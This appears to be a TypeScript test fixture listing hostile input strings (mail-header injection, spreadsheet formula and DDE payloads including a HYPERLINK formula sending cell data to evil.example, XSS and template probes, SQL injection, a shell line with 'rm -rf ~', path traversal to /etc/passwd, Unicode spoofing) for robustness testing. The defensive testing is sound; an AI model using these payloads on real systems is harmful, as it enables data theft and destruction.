/** Texts that have broken programs before, by kind: each must end as the text that it is. */
export const hostileTexts: readonly string[] = [
  // Headers of a mail.
  'Bcc: everyone@museum.example',
  'x%0d%0aBcc: everyone@museum.example',
  '=?utf-8?B?QmNjOiBldmVyeW9uZUBtdXNldW0uZXhhbXBsZQ==?=',
  '"><ana@museum.example>, <bo@museum.example>',
  // Formulas.
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  // Markup, scripts and templates.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '&lt;b&gt; &amp;',
  ']]><!--',
  '${7*7} {{7*7}} <%= 7*7 %> #{7*7}',
  // SQL and shells.
  "'); DROP TABLE sign_ups; --",
  "1' OR '1'='1",
  '$(touch /tmp/x) `id` ; rm -rf ~ | cat',
  // CSV.
  'a","b\',;|c',
  '"quoted", and ""doubled""',
  // JSON and numbers.
  '{"a":1}',
  'null',
  'undefined',
  'NaN',
  '1E400',
  '0x1F',
  'true',
  '__proto__',
  'constructor',
  // Letters of the world, one above the other, from right to left, and beyond the first plane.
  'Zoë Åström-Ñandú',
  'ᐃᓄᒃᑎᑐᑦ 田中さん 김철수',
  'مرحبا بالعالم',
  'שלום עולם',
  '\u202egnp.exe\u202c',
  '\u2067right\u2069 \u200fmark',
  'Z\u0351\u036b\u0343\u036aa\u0335lgo',
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  '𝒯𝑒𝓍𝓉 𠜎𠜱',
  'zero\u200bwidth\u200djoiner\ufeff',
  'ﷺ',
  'e\u0301 é',
  // Paths and addresses.
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'C:\\CON\\NUL',
  // Long.
  'x'.repeat(200),
];

/** Texts that no field takes: control characters, invisible line ends, halves of letters. */
export const untakenTexts: readonly string[] = ['a\u0000b', 'a\u001b[31mb', 'a\u0007b', 'a\u007fb', 'a\u0085b', 'a\ud800b', 'a\udfffb'];
